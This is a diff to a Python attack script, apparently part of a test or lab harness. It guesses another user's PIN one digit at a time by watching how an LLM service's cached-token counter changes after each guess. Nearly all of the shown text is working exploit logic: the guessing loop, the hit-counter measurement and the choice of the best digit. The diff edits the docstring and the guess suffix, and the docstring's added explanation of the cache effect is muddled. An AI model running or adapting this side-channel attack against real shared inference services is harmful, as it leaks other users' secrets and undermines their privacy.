@@ -1,4 +1,7 @@
-"""Another user's PIN, digit by digit, by what the counter of cached tokens says of each guess."""
+"""Another user's PIN, digit by digit, by what the counter of cached tokens says of each guess.
+
+A hit leaves the last tokens of a prompt to be computed, so a guess has more text behind it.
+"""
 
 import re
 
@@ -19,7 +22,7 @@ async def attack(target: Target) -> None:
             gains: dict[str, float] = {}
             for digit in "0123456789":
                 before = await _hits(http)
-                await _ask(target, http, f"{_TEXT}{known}{digit}!")
+                await _ask(target, http, f"{_TEXT}{known}{digit} is the code.")
                 gains[digit] = await _hits(http) - before
             known += max(gains, key=gains.__getitem__)
         target.outcomes["PIN read" if known == _SECRET else "PIN not read"] += 1
